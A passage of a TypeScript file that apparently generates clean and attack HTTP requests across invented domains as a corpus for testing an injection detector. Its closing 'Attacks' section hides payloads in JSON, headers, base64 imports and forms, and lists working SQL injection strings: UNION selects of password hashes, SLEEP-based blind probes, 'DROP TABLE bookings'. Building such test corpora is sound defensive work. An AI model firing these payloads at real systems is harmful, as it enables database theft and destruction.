  addClean('json-patch', 'PATCH', path, headers('application/json-patch+json'), JSON.stringify(body));
}

// jsonapi
for (let i = 0; i < 28; i++) {
  const d = DOMAINS[i % 8]!;
  const typeOf: Record<Domain, string> = {
    charter: 'reviews',
    fab: 'alarm-acknowledgements',
    therapy: 'session-notes-requests',
    auction: 'bids',
    music: 'scores',
    coop: 'shift-signups',
    press: 'isbn-assignments',
    bike: 'rebalancing-tasks',
  };
  const attrs: Record<Domain, () => Record<string, unknown>> = {
    charter: () => ({
      rating: int(3, 5),
      title: pick(['Dream week in the Ionian', 'Great boat, patchy wifi', 'Skipper Nikos was a legend']),
      body: note('charter'),
    }),
    fab: () => ({
      alarm: pick(ALARMS),
      acknowledgedAt: isoTime(),
      action: pick(['reset', 'hold-lot', 'call-vendor']),
      comment: note('fab'),
    }),
    therapy: () => ({
      requestedAt: isoTime(),
      purpose: pick(['continuity of care', 'insurance audit', 'personal copy']),
      deliverTo: 'secure portal',
    }),
    auction: () => ({
      amount: int(20, 400) * 50,
      currency: 'USD',
      proxyMax: int(20, 500) * 50,
      placedFrom: pick(['web', 'ios', 'android']),
    }),
    music: () => ({
      title: pick(WORKS),
      publisher: pick(['Carus-Verlag', 'Oxford University Press', 'Walton Music']),
      catalogue: `CV ${int(10, 99)}.${int(100, 999)}`,
      copies: int(1, 80),
    }),
    coop: () => ({
      shift: pick(['receiving', 'cashier', 'bulk-refill', 'cleanup']),
      date: isoDate(),
      startsAt: pick(['07:00', '10:00', '16:30']),
      note: note('coop'),
    }),
    press: () => ({
      isbn: isbn13(),
      format: pick(['paperback', 'hardcover', 'epub', 'audiobook']),
      imprint: pick(['Harbour Lane', 'Moss & Tin']),
    }),
    bike: () => ({
      from: pick(DOCKS),
      to: pick(DOCKS),
      bikes: int(2, 18),
      priority: pick(['low', 'normal', 'urgent']),
      dueBy: isoTime(),
    }),
  };
  const body = {
    data: {
      type: typeOf[d],
      attributes: attrs[d](),
      relationships: { author: { data: { type: 'users', id: String(int(100, 99999)) } } },
    },
  };
  addClean(
    'jsonapi',
    'POST',
    `/jsonapi/${typeOf[d]}`,
    headers('application/vnd.api+json', { accept: 'application/vnd.api+json' }),
    JSON.stringify(body),
  );
}

// graphql
const GQL = [
  {
    d: 'charter' as Domain,
    op: 'SearchYachts',
    q: 'query SearchYachts($near: String!, $from: Date!, $guests: Int!) { yachts(near: $near, from: $from, guests: $guests, first: 20) { edges { node { id name lengthM cabins weeklyRate { amount currency } marina { name } } } } }',
    v: () => ({ near: pick(MARINAS), from: isoDate(), guests: int(2, 10) }),
  },
  {
    d: 'fab' as Domain,
    op: 'ToolAlarms',
    q: 'query ToolAlarms($tool: ID!, $since: DateTime) { tool(id: $tool) { id state alarms(since: $since) { code text raisedAt clearedAt chamber } } }',
    v: () => ({ tool: pick(FAB_TOOLS), since: isoTime() }),
  },
  {
    d: 'therapy' as Domain,
    op: 'Reschedule',
    q: 'mutation Reschedule($id: ID!, $start: DateTime!, $msg: String) { rescheduleAppointment(id: $id, start: $start, message: $msg) { id start status } }',
    v: () => ({ id: uuid(), start: isoTime(), msg: note('therapy') }),
  },
  {
    d: 'auction' as Domain,
    op: 'DecodeVin',
    q: 'query DecodeVin($vin: String!) { decodeVin(vin: $vin) { make model year trim engine { displacementL cylinders fuel } plant recalls { campaign summary } } }',
    v: () => ({ vin: pick(VINS) }),
  },
  {
    d: 'music' as Domain,
    op: 'Catalogue',
    q: 'query Catalogue($q: String, $voicing: String) { scores(search: $q, voicing: $voicing) { id title composer edition copiesAvailable } }',
    v: () => ({
      q: pick(['requiem', 'magnificat', 'Всенощное', 'ave verum', 'lux aurumque']),
      voicing: pick(VOICES),
    }),
  },
  {
    d: 'coop' as Domain,
    op: 'AddToOrder',
    q: 'mutation AddToOrder($order: ID!, $lines: [OrderLineInput!]!) { addLines(order: $order, lines: $lines) { id total { amount currency } } }',
    v: () => ({
      order: `CO-${int(80000, 99999)}`,
      lines: [
        {
          sku: `SKU-${int(1000, 9999)}`,
          qty: int(1, 4),
          note: pick(['ripe please', 'no substitutions', '']),
        },
      ],
    }),
  },
  {
    d: 'press' as Domain,
    op: 'UpdateBlurb',
    q: 'mutation UpdateBlurb($isbn: String!, $blurb: String!) { updateTitle(isbn: $isbn, input: { blurb: $blurb }) { isbn blurb updatedAt } }',
    v: () => ({ isbn: isbn13(), blurb: note('press') }),
  },
  {
    d: 'bike' as Domain,
    op: 'NearbyDocks',
    q: 'query NearbyDocks($lat: Float!, $lng: Float!, $radius: Int) { docks(near: { lat: $lat, lng: $lng }, radiusM: $radius) { id name bikesAvailable ebikesAvailable freeSlots } }',
    v: () => ({
      lat: Number((40.7 + rand() / 10).toFixed(5)),
      lng: Number((-74 + rand() / 10).toFixed(5)),
      radius: pick([300, 500, 800]),
    }),
  },
];
for (let i = 0; i < 32; i++) {
  const g = GQL[i % GQL.length]!;
  const mode = i % 4;
  if (mode === 0 || mode === 1) {
    addClean(
      'graphql',
      'POST',
      '/graphql',
      headers('application/json'),
      JSON.stringify({ operationName: g.op, query: g.q, variables: g.v() }),
    );
  } else if (mode === 2) {
    addClean(
      'graphql',
      'GET',
      `/graphql?${qs({ operationName: g.op, query: g.q, variables: JSON.stringify(g.v()) })}`,
      headers(),
    );
  } else {
    const ext = { persistedQuery: { version: 1, sha256Hash: hex(64) } };
    addClean(
      'graphql',
      'GET',
      `/graphql?${qs({ operationName: g.op, variables: JSON.stringify(g.v()), extensions: JSON.stringify(ext) })}`,
      headers(undefined, { 'apollographql-client-name': pick(['web', 'ios', 'android']) }),
    );
  }
}

// form
const formEnc = (o: Record<string, string | number>): string =>
  new URLSearchParams(Object.entries(o).map(([k, v]): [string, string] => [k, String(v)])).toString();
for (let i = 0; i < 30; i++) {
  const d = DOMAINS[(i + 2) % 8]!;
  const p = pick(PEOPLE);
  const forms: Record<Domain, () => [string, Record<string, string | number>]> = {
    charter: () => [
      '/forms/charter-enquiry',
      {
        name: p,
        email: emailOf(p),
        dates: `${isoDate()} – ${isoDate()}`,
        guests: int(2, 12),
        message: note('charter'),
      },
    ],
    fab: () => [
      '/fab/shift-handover',
      { shift: pick(['A', 'B', 'C', 'D']), lead: p, toolsDown: pick(FAB_TOOLS), summary: note('fab') },
    ],
    therapy: () => [
      '/intake/contact',
      {
        preferred_name: p.split(' ')[0] ?? p,
        pronouns: pick(['she/her', 'he/him', 'they/them', '']),
        best_time: pick(['evenings', 'lunch', 'weekends']),
        what_brings_you: note('therapy'),
      },
    ],
    auction: () => [
      '/auth/login',
      {
        username: emailOf(p),
        password: `${alnum(6, 'abcdefghijkmnpqrstuvwxyz')}!${int(10, 99)}${pick(['#', '&', '%', '='])}Q`,
        remember: 'on',
      },
    ],
    music: () => [
      '/library/request',
      { requester: p, work: pick(WORKS), copies: int(1, 50), needed_by: isoDate(), notes: note('music') },
    ],
    coop: () => [
      '/member/volunteer-hours',
      {
        member_no: int(10000, 99999),
        date: isoDate(),
        hours: int(1, 6),
        task: pick(['stocking', 'cashier', 'cleaning', 'newsletter']),
        comment: note('coop'),
      },
    ],
    press: () => [
      '/submit/query-letter',
      {
        author: p,
        email: emailOf(p),
        working_title: pick(BOOKS),
        genre: pick(['literary fiction', 'memoir', 'nature writing', 'poetry']),
        word_count: int(30000, 150000),
        pitch: note('press'),
      },
    ],
    bike: () => [
      '/support/refund',
      { email: emailOf(p), ride_id: `R${int(1000000, 9999999)}`, amount: money(1, 30), reason: note('bike') },
    ],
  };
  const [path, f] = forms[d]();
  addClean('form', 'POST', path, headers('application/x-www-form-urlencoded'), formEnc(f));
}

// multipart
for (let i = 0; i < 28; i++) {
  const d = DOMAINS[(i + 1) % 8]!;
  const boundary = `----WebKitFormBoundary${alnum(16, 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789')}`;
  const files: Record<Domain, () => [string, string, string, string, Record<string, string>]> = {
    charter: () => [
      '/api/v2/yachts/photos',
      'aft-deck.jpg',
      'image/jpeg',
      `\xff\xd8\xff\xe0JFIF-${hex(24)}`,
      {
        yachtId: `YC-${alnum(6)}`,
        caption: pick(['Aft deck at sunset', 'Master cabin', 'Galley — fully equipped']),
      },
    ],
    fab: () => [
      '/api/fab/attachments',
      `${pick(FAB_TOOLS)}_pm_checklist.csv`,
      'text/csv',
      `step,description,result\n1,Vent chamber,OK\n2,Replace focus ring,OK\n3,Leak check (< 2 mTorr/min),1.4\n4,Season 25 wafers,OK\n`,
      { workOrder: `WO-${int(240000, 269999)}` },
    ],
    therapy: () => [
      '/api/v1/documents',
      'insurance-card-front.png',
      'image/png',
      `\x89PNG\r\n\x1a\n${hex(32)}`,
      { docType: 'insurance_card', side: 'front' },
    ],
    auction: () => [
      '/api/auctions/inspections',
      `${pick(VINS)}-report.pdf`,
      'application/pdf',
      `%PDF-1.7\n1 0 obj << /Type /Catalog >> endobj\n% ${hex(20)}\n`,
      { inspector: pick(PEOPLE), grade: String(int(1, 5)) },
    ],
    music: () => [
      '/api/library/scans',
      'faure-requiem-alto-p12.pdf',
      'application/pdf',
      `%PDF-1.5\n%${hex(16)}\n`,
      { scoreId: `MS-${pad(int(1, 2000), 4)}`, pages: '12-13' },
    ],
    coop: () => [
      '/api/members/receipts',
      'receipt-2026-03.txt',
      'text/plain',
      `Co-op Market\nOat milk 1L   3.49\nLentils 500g  2.19\nTotal         5.68\nMember #${int(10000, 99999)}\n`,
      { claim: 'missing discount' },
    ],
    press: () => [
      '/api/manuscripts/upload',
      'manuscript-final.md',
      'text/markdown',
      `# ${pick(BOOKS)}\n\n## Chapter One\n\nThe harbour smelled of diesel and oranges. *She* didn't look back.\n\n> “Every port is a question.”\n`,
      { isbn: isbn13(), stage: 'final' },
    ],
    bike: () => [
      '/api/ops/incident-photos',
      'dock-305-kiosk.jpg',
      'image/jpeg',
      `\xff\xd8\xff\xe1Exif${hex(20)}`,
      { incidentId: uuid(), dock: pick(DOCKS) },
    ],
  };
  const [path, filename, ctype, content, fields] = files[d]();
  let body = '';
  for (const [k, v] of Object.entries(fields))
    body += `--${boundary}\r\nContent-Disposition: form-data; name="${k}"\r\n\r\n${v}\r\n`;
  body += `--${boundary}\r\nContent-Disposition: form-data; name="file"; filename="${filename}"\r\nContent-Type: ${ctype}\r\n\r\n${content}\r\n--${boundary}--\r\n`;
  addClean('multipart', 'POST', path, headers(`multipart/form-data; boundary=${boundary}`), body);
}

// ndjson
for (let i = 0; i < 28; i++) {
  const d = DOMAINS[(i + 6) % 8]!;
  const n = int(2, 6);
  const lines: unknown[] = [];
  for (let k = 0; k < n; k++) {
    switch (d) {
      case 'fab':
        lines.push({
          ts: isoTime(),
          tool: pick(FAB_TOOLS),
          svid: int(1000, 9999),
          name: pick(['ChamberPressure', 'RFForward', 'HeFlow', 'WaferTemp']),
          value: Number((rand() * 500).toFixed(3)),
        });
        break;
      case 'bike':
        lines.push({
          ts: isoTime(),
          bike: `EB-${int(1000, 4999)}`,
          soc: int(5, 100),
          lat: Number((40.7 + rand() / 10).toFixed(5)),
          lng: Number((-74 + rand() / 10).toFixed(5)),
          locked: chance(0.5),
        });
        break;
      case 'auction':
        lines.push({
          ts: isoTime(),
          lot: int(4000, 9999),
          event: pick(['bid', 'watch', 'view']),
          amount: int(20, 400) * 50,
        });
        break;
      case 'coop':
        lines.push({
          sku: `SKU-${int(1000, 9999)}`,
          name: pick(GROCERIES),
          onHand: int(0, 200),
          reorderAt: int(5, 40),
        });
        break;
      default:
        lines.push({
          ts: isoTime(),
          domain: d,
          event: pick(['page_view', 'search', 'click']),
          ref: `/${d}/${hex(6)}`,
          note: chance(0.3) ? note(d) : undefined,
        });
    }
  }
  addClean(
    'ndjson',
    'POST',
    `/api/ingest/${d}`,
    headers('application/x-ndjson'),
    `${lines.map((l) => JSON.stringify(l)).join('\n')}\n`,
  );
}

// delete
for (let i = 0; i < 28; i++) {
  const d = DOMAINS[i % 8]!;
  const paths: Record<Domain, () => string> = {
    charter: () =>
      `/api/v2/bookings/${alnum(8)}?${qs({ reason: pick(['weather', 'illness', 'change of plans']) })}`,
    fab: () => `/api/fab/tools/${pick(FAB_TOOLS)}/holds/${int(100, 999)}`,
    therapy: () => `/api/v1/appointments/${uuid()}?${qs({ notify: true, lateCancel: chance(0.3) })}`,
    auction: () => `/api/auctions/watchlist/${int(4000, 9999)}`,
    music: () => `/api/library/loans/${int(1000, 9999)}`,
    coop: () =>
      `/api/members/${int(10000, 99999)}/payment-methods/pm_${alnum(14, 'abcdefghijklmnopqrstuvwxyz0123456789')}`,
    press: () => `/api/titles/${isbn13()}/proofs/${uuid()}`,
    bike: () => `/api/ops/docks/${int(1, 400)}/maintenance-windows/${int(1, 60)}`,
  };
  addClean('delete', 'DELETE', paths[d](), headers());
}

// cms-html (rich text in HELDOUT28_EXCLUDE_FIELDS only)
const HTML_BLOCKS = [
  () =>
    `<h2>${pick(YACHTS)} — ${int(12, 24)} m ${pick(['Bavaria', 'Lagoon', 'Jeanneau', 'Beneteau'])}</h2><p>Sleeps <strong>${int(6, 12)}</strong> in ${int(3, 5)} cabins. Based in <em>${pick(MARINAS)}</em>.</p>`,
  () =>
    `<ul><li>Watermaker (60 L/h)</li><li>Starlink &amp; 4G router</li><li>2× SUP, snorkel gear</li><li>Bow thruster</li></ul>`,
  () =>
    `<p>Please read our <a href="https://seaberth.example/terms#cancellation" target="_blank" rel="noopener">cancellation policy</a> before booking.</p>`,
  () =>
    `<figure><img src="https://cdn.seaberth.example/y/${hex(8)}.webp" alt="Flybridge with bimini" width="1200" height="800" loading="lazy"><figcaption>Flybridge</figcaption></figure>`,
  () =>
    `<table><thead><tr><th>Season</th><th>Weekly</th></tr></thead><tbody><tr><td>Low</td><td>€${int(4, 9)}.${int(100, 999)}</td></tr><tr><td>High</td><td>€${int(10, 30)}.${int(100, 999)}</td></tr></tbody></table>`,
  () =>
    `<blockquote><p>“Best week of our lives. Captain knew every cove.” — ${pick(PEOPLE)}</p></blockquote>`,
  () => `<p style="text-align:center">Ζήσε το Αιγαίο όπως οι ντόπιοι 🌊</p>`,
];
const CHAPTER_BLOCKS = [
  () =>
    `<h1 class="chapter-title">Chapter ${int(1, 30)}</h1><p class="first">The harbour smelled of diesel and oranges.</p>`,
  () =>
    `<p>She said, “Don’t &mdash; not yet.” He didn’t answer.<sup><a href="#fn${int(1, 40)}" id="ref${int(1, 40)}">${int(1, 40)}</a></sup></p>`,
  () => `<p class="epigraph"><em>I celebrate myself, and sing myself.</em><br>— Walt Whitman</p>`,
  () => `<hr class="scene-break"><p class="noindent">Three winters later, the bridge was gone.</p>`,
  () =>
    `<aside class="footnote" id="fn${int(1, 40)}"><p>See <cite>Harbour Records, vol. II</cite>, p. ${int(10, 400)}.</p></aside>`,
  () => `<p lang="ja">雪の記憶は、いつも静かだった。</p><p lang="fr">« Tu reviendras ? » demanda-t-elle.</p>`,
  () => `<pre class="poem">the tide
    goes out
        and out</pre>`,
];
for (let i = 0; i < 30; i++) {
  if (i % 2 === 0) {
    const html = Array.from({ length: int(2, 5) }, () => pick(HTML_BLOCKS)()).join('\n');
    addClean(
      'cms-html',
      'PUT',
      `/api/v2/yachts/YC-${alnum(6)}/listing`,
      headers('application/json'),
      JSON.stringify({
        listing: {
          headline: `${pick(YACHTS)} in ${pick(MARINAS)}`,
          descriptionHtml: html,
          locale: pick(['en', 'el', 'hr', 'es']),
        },
      }),
    );
  } else {
    const html = Array.from({ length: int(2, 6) }, () => pick(CHAPTER_BLOCKS)()).join('\n');
    addClean(
      'cms-html',
      'PUT',
      `/api/manuscripts/${uuid()}/chapters/${int(1, 30)}`,
      headers('application/json'),
      JSON.stringify({
        chapter: {
          title: pick(['Low Tide', 'Salt', 'The Bridge at Night', 'Éloge de la lenteur']),
          html,
          revision: int(1, 12),
        },
      }),
    );
  }
}

// code (source/config in HELDOUT28_EXCLUDE_FIELDS: body.snippet.source)
const SNIPPETS: { lang: string; title: string; source: string }[] = [
  {
    lang: 'sql',
    title: 'Dock utilisation last 7 days',
    source:
      "SELECT dock_id, count(*) AS trips\nFROM trips\nWHERE started_at > now() - interval '7 days'\nGROUP BY dock_id\nORDER BY trips DESC\nLIMIT 20;",
  },
  {
    lang: 'sql',
    title: 'Lots with both shifts',
    source:
      "SELECT lot_id FROM moves WHERE shift = 'A'\nUNION\nSELECT lot_id FROM moves WHERE shift = 'B';\n-- night shift logs are partial, see note",
  },
  {
    lang: 'python',
    title: 'SECS/GEM event report parser',
    source:
      'import struct\n\ndef parse_s6f11(buf: bytes) -> dict:\n    dataid, ceid = struct.unpack(">II", buf[:8])\n    return {"dataid": dataid, "ceid": ceid, "reports": buf[8:]}\n',
  },
  {
    lang: 'yaml',
    title: 'Recipe step override',
    source:
      'recipe: POLY_ETCH_45S\nsteps:\n  - name: main_etch\n    rf_w: 450\n    pressure_mtorr: 12\n    gases: {Cl2: 80, HBr: 120, O2: 3}\n    time_s: 45\n',
  },
  {
    lang: 'bash',
    title: 'Nightly score backup',
    source:
      '#!/usr/bin/env bash\nset -euo pipefail\nrsync -a --delete /srv/scores/ backup@nas.local:/vol1/scores/\nfind /srv/scores/tmp -mtime +7 -delete\n',
  },
  {
    lang: 'latex',
    title: 'Chapter opener',
    source:
      '\\chapter*{Salt}\n\\addcontentsline{toc}{chapter}{Salt}\n\\epigraph{Every port is a question.}{--- Anon.}\n\\lettrine{T}{he} harbour smelled of diesel and oranges.',
  },
  {
    lang: 'css',
    title: 'Print stylesheet',
    source:
      '@page { size: 6in 9in; margin: 0.75in 0.6in; }\np { orphans: 2; widows: 2; hyphens: auto; }\nh1.chapter-title { break-before: right; font-variant: small-caps; }',
  },
  {
    lang: 'javascript',
    title: 'VIN check digit',
    source:
      "const map = '0123456789.ABCDEFGH..JKLMN.P.R..STUVWXYZ';\nconst w = [8,7,6,5,4,3,2,10,0,9,8,7,6,5,4,3,2];\nexport function check(vin) {\n  let s = 0;\n  for (let i = 0; i < 17; i++) s += (map.indexOf(vin[i]) % 10) * w[i];\n  return '0123456789X'[s % 11] === vin[8];\n}",
  },
  {
    lang: 'lilypond',
    title: 'Alto line, bars 110-114',
    source: "\\relative c' {\n  \\key f \\major \\time 3/4\n  a4 bes c | d2. | c4( bes) a | bes2 r4 |\n}",
  },
  {
    lang: 'typescript',
    title: 'Co-op discount rule',
    source:
      'export function discount(total: number, member: { senior: boolean; caseOrder: boolean }): number {\n  const rate = Math.max(member.senior ? 0.05 : 0, member.caseOrder ? 0.1 : 0);\n  return Math.round(total * (1 - rate) * 100) / 100;\n}',
  },
  {
    lang: 'json',
    title: 'Rebalancing thresholds',
    source: '{\n  "lowWater": 0.15,\n  "highWater": 0.85,\n  "peakHours": ["07:00-09:30", "16:30-19:00"]\n}',
  },
  {
    lang: 'go',
    title: 'Alarm webhook',
    source:
      'func handle(w http.ResponseWriter, r *http.Request) {\n\tvar a Alarm\n\tif err := json.NewDecoder(r.Body).Decode(&a); err != nil {\n\t\thttp.Error(w, err.Error(), 400)\n\t\treturn\n\t}\n\tlog.Printf("alarm %s on %s", a.Code, a.Tool)\n}',
  },
];
for (let i = 0; i < 30; i++) {
  const s = SNIPPETS[i % SNIPPETS.length]!;
  const d = pick(DOMAINS);
  addClean(
    'code',
    'POST',
    `/api/${d}/snippets`,
    headers('application/json'),
    JSON.stringify({
      snippet: { title: s.title, language: s.lang, source: s.source },
      author: emailOf(pick(PEOPLE)),
      tags: [s.lang, d],
    }),
  );
}

// prose (multilingual free text in ordinary fields; includes innocent SQL/shell-sounding words)
const PROSE_EXTRA = [
  "We'll select a different union rep next term; drop me a line if you want to stand.",
  'The cat sat on the foredeck all afternoon, refusing to exec any command but "feed me".',
  "Grep'ing through old programmes I found our 1998 Messiah — the one where the power went out. ⚡",
  'Our ensemble decided to update the tables in the rehearsal hall; old ones were wobbly.',
  'I ran `ls` in my head of everything that went wrong this week and it was a long list, honestly.',
  'Mi terapeuta me sugirió escribir tres cosas buenas cada noche. Hoy: sol, café, y mi perro.',
  '今日はとても疲れましたが、セッションの後は少し気持ちが軽くなりました。',
  'Η βάρκα ήταν υπέροχη, αλλά ο άνεμος ήταν πολύ δυνατός την Τρίτη.',
  'В субботу хор поёт в соборе — приходите, вход свободный!',
  'The wrench said "from 1=1 to 10" on the torque chart, which confused everyone for a minute.',
  "Where's the 'Delete' key on this kiosk? I wanted to fix a typo in my name (O'Brien, not OBrien).",
  'Rider note: the path along the canal is closed where the script said it would reopen in May.',
  'Reminder: sign-up sheet for the orchestra retreat closes Friday; bring sheet music & a stand light.',
  'Ce livre parle de la mer, du sel et des gens qui restent quand les bateaux partent.',
  'هذا الكتاب جميل جداً، وأتمنى أن تتم ترجمته إلى العربية قريباً.',
  'Loved the oat milk drop — 10/10 would queue again 🥛😂',
  "I'd rather not discuss my family in group; is 1:1 possible? (It's OK if not.)",
  'Used-car tip: always check for "flood" in the title history & smell the carpets; sorry if that sounds obvious!',
];
for (let i = 0; i < 30; i++) {
  const d = DOMAINS[(i + 4) % 8]!;
  const text = [pick(PROSE_EXTRA), note(d), chance(0.5) ? pick(PROSE_EXTRA) : '']
    .filter(Boolean)
    .join('\n\n');
  const targets: Record<Domain, [string, string]> = {
    charter: ['/api/v2/messages', 'body'],
    fab: ['/api/fab/logbook', 'entry'],
    therapy: ['/api/v1/journal', 'text'],
    auction: ['/api/auctions/questions', 'question'],
    music: ['/api/library/forum/posts', 'content'],
    coop: ['/api/community/posts', 'content'],
    press: ['/api/reviews', 'review'],
    bike: ['/api/feedback', 'comment'],
  };
  const [path, field] = targets[d];
  addClean(
    'prose',
    'POST',
    path,
    headers('application/json'),
    JSON.stringify({
      [field]: text,
      language: pick(['en', 'es', 'ja', 'el', 'ru', 'fr', 'ar', 'auto']),
      createdAt: isoTime(),
    }),
  );
}

// search
const SEARCHES: Record<Domain, string[]> = {
  charter: [
    'catamaran with watermaker',
    'skippered gulet Fethiye',
    'Nordlys 2 cabins',
    "owner's cabin + ensuite",
    'pet-friendly yacht',
  ],
  fab: [
    'ALM-1043',
    'he backside leak PM2',
    'focus ring life > 800 RF-h',
    'recipe:POLY_ETCH_45S rev:14',
    'ウェハ搬送',
  ],
  therapy: [
    'therapist EMDR spanish speaking',
    'LGBTQ+ affirming couples',
    'grief counselling evenings',
    'ADHD adult Berlin',
  ],
  auction: [
    'VIN 1HGCM82633A004352',
    'tacoma 4x4 "clean title"',
    'under $8,000 hybrid',
    'Golf TDI DSG',
    'salvage -flood',
  ],
  music: [
    'Fauré Requiem SATB',
    'Ave verum corpus Mozart K. 618',
    'Всенощное бдение',
    'Dvořák 9 parts',
    'Händel "For unto us"',
  ],
  coop: ['oat milk', 'gluten-free & nut-free', 'miso shiro', 'café de Colombia', 'bulk nuts < $10/lb'],
  press: [
    'ISBN 978-1-4028-9462-6',
    'memoir sailing',
    'la mémoire des ponts',
    'author: Ní Bhriain',
    'font: EB Garamond',
  ],
  bike: ['dock 114', 'e-bike soc<20', 'Plaza Mayor incidents', 'stolen bike 2281', 'tram tracks fall'],
};
for (let i = 0; i < 30; i++) {
  const d = DOMAINS[(i + 7) % 8]!;
  const q = pick(SEARCHES[d]);
  addClean(
    'search',
    'GET',
    `/api/${d}/search?${qs({ q, page: int(1, 5), per_page: pick([20, 25, 50]), ...(chance(0.4) ? { sort: pick(['relevance', 'newest', '-price']) } : {}) })}`,
    headers(),
  );
}

// ---------------------------------------------------------------------------------------------------------
// Attacks

const attacks: CorpusRequest[] = [];
const addAttack = (
  family: string,
  technique: string,
  method: string,
  path: string,
  h: Record<string, string>,
  body = '',
): void => {
  attacks.push({
    id: `h28a${attacks.length + 1}`,
    kind: 'attack',
    family,
    technique,
    method,
    path,
    headers: h,
    body,
  });
};

/** Replaces every character that is not alphanumeric with a JSON `\u00XX` escape. */
const uEscape = (s: string): string =>
  Array.from(s)
    .map((c) => (/[A-Za-z0-9]/.test(c) ? c : `\\u${c.charCodeAt(0).toString(16).padStart(4, '0')}`))
    .join('');

type Placement =
  | 'json-nested'
  | 'json-array'
  | 'json-key'
  | 'json-uescape'
  | 'json-in-string'
  | 'base64-import'
  | 'query'
  | 'header'
  | 'graphql-var'
  | 'form'
  | 'ndjson'
  | 'merge-patch';

/** Hides a string payload in a domain-shaped request using one placement. */
function place(family: string, trick: string, payload: string, where: Placement, i: number): void {
  const d = DOMAINS[i % 8]!;
  const technique = `${trick} via ${where}`;
  switch (where) {
    case 'json-nested': {
      const bodies: Record<Domain, unknown> = {
        charter: {
          bookingId: alnum(8),
          guest: { name: pick(PEOPLE), preferences: { dietary: 'none', specialRequests: payload } },
        },
        fab: {
          workOrder: `WO-${int(240000, 269999)}`,
          technician: { badge: payload },
          tool: pick(FAB_TOOLS),
        },
        therapy: { clientId: uuid(), intake: { emergencyContact: { name: payload, phone: '+1-555-0188' } } },
        auction: { lot: int(4000, 9999), vehicle: { vin: pick(VINS), decoded: { trim: payload } } },
        music: { loan: { ensemble: 'Chamber Choir', work: { title: payload, copies: 20 } } },
        coop: { member: { id: int(10000, 99999), household: { address: { line2: payload } } } },
        press: { title: { isbn: isbn13(), contributors: [{ role: 'author', name: payload }] } },
        bike: { incident: { bikeId: `EB-${int(1000, 4999)}`, dock: { name: payload } } },
      };
      addAttack(
        family,
        technique,
        'POST',
        `/api/${d}/records`,
        headers('application/json'),
        JSON.stringify(bodies[d]),
      );
      return;
    }
    case 'json-array':
      addAttack(
        family,
        technique,
        'POST',
        `/api/${d}/batch`,
        headers('application/json'),
        JSON.stringify({
          items: [
            { id: int(1, 999), tags: ['ok', 'reviewed'] },
            { id: int(1, 999), tags: ['draft', payload] },
          ],
        }),
      );
      return;
    case 'json-key':
      addAttack(
        family,
        technique,
        'PUT',
        `/api/${d}/settings/labels`,
        headers('application/json'),
        JSON.stringify({ labels: { [payload]: { color: '#3366ff' }, 'needs review': { color: '#ff9900' } } }),
      );
      return;
    case 'json-uescape': {
      const obj = { note: 'PLACEHOLDER_28', updatedBy: emailOf(pick(PEOPLE)) };
      const body = JSON.stringify(obj).replace('PLACEHOLDER_28', uEscape(payload));
      addAttack(
        family,
        technique,
        'PATCH',
        `/api/${d}/items/${int(1, 9999)}`,
        headers('application/json'),
        body,
      );
      return;
    }
    case 'json-in-string':
      addAttack(
        family,
        technique,
        'POST',
        `/api/${d}/webhooks/ingest`,
        headers('application/json'),
        JSON.stringify({
          source: 'partner',
          event: 'update',
          payload: JSON.stringify({ record: { comment: payload, at: isoTime() } }),
        }),
      );
      return;
    case 'base64-import':
      addAttack(
        family,
        technique,
        'POST',
        `/api/${d}/imports`,
        headers('application/json'),
        JSON.stringify({
          filename: 'export.csv',
          encoding: 'base64',
          contentBase64: b64(`id,name,comment\n${int(1, 99)},row,"${payload.replace(/"/g, '""')}"\n`),
        }),
      );
      return;
    case 'query':
      addAttack(family, technique, 'GET', `/api/${d}/search?q=${enc(payload)}&page=1`, headers());
      return;
    case 'header': {
      // Header values must be printable ASCII on the wire: anything else is sent percent-encoded.
      const printable = /^[\x20-\x7e]*$/.test(payload);
      const value = printable ? payload : payload.replace(/[^\x20-\x7e]/gu, (c) => enc(c));
      addAttack(
        family,
        printable ? technique : `${technique} (percent-encoded)`,
        'GET',
        `/api/${d}/status`,
        headers(undefined, {
          [pick(['user-agent', 'referer', 'x-forwarded-for', 'x-client-note', 'x-api-version'])]: value,
        }),
      );
      return;
    }
    case 'graphql-var':
      addAttack(
        family,
        technique,
        'POST',
        '/graphql',
        headers('application/json'),
        JSON.stringify({
          operationName: 'Update',
          query:
            'mutation Update($id: ID!, $input: NoteInput!) { updateNote(id: $id, input: $input) { id } }',
          variables: { id: uuid(), input: { text: payload, visibility: 'team' } },
        }),
      );
      return;
    case 'form':
      addAttack(
        family,
        technique,
        'POST',
        `/forms/${d}/contact`,
        headers('application/x-www-form-urlencoded'),
        formEnc({ name: pick(PEOPLE), message: payload }),
      );
      return;
    case 'ndjson':
      addAttack(
        family,
        technique,
        'POST',
        `/api/ingest/${d}`,
        headers('application/x-ndjson'),
        `${JSON.stringify({ ts: isoTime(), event: 'view' })}\n${JSON.stringify({ ts: isoTime(), event: 'comment', text: payload })}\n`,
      );
      return;
    case 'merge-patch':
      addAttack(
        family,
        technique,
        'PATCH',
        `/api/${d}/profiles/${int(1, 9999)}`,
        headers('application/merge-patch+json'),
        JSON.stringify({ displayName: pick(PEOPLE), bio: payload }),
      );
      return;
  }
}

const STRING_PLACEMENTS: Placement[] = [
  'json-nested',
  'json-array',
  'json-uescape',
  'json-in-string',
  'base64-import',
  'query',
  'header',
  'graphql-var',
  'form',
  'ndjson',
  'merge-patch',
];

function family(name: string, payloads: [string, string][], extra: Placement[] = []): void {
  const placements = [...STRING_PLACEMENTS, ...extra];
  for (let i = 0; i < 30; i++) {
    const [trick, payload] = payloads[i % payloads.length]!;
    place(name, trick, payload, placements[(i * 5 + 1) % placements.length]!, i);
  }
}

family(
  'sql',
  [
    ['tautology', "' OR '1'='1' -- "],
    ['union select', "0') UNION SELECT username, password_hash, NULL FROM members-- -"],
    ['time-based blind', "x' AND (SELECT 1 FROM (SELECT SLEEP(5))a)-- -"],
    ['stacked drop', "'; DROP TABLE bookings;--"],
    ['error-based extractvalue', '1 AND extractvalue(1,concat(0x7e,(SELECT version())))'],
    ['comment-obfuscated tautology', "admin'/**/oR/**/1=1#"],
    ['postgres stacked sleep', '1;SELECT pg_sleep(7)--'],
    ['information_schema union', "' UNION ALL SELECT NULL,table_name,NULL FROM information_schema.tables-- "],
    ['mssql convert error', "1' AND 1=CONVERT(int,(SELECT TOP 1 name FROM sysobjects WHERE xtype='U'))--"],
    ['boolean substring', "' AND SUBSTRING((SELECT password FROM users LIMIT 1),1,1)='a"],
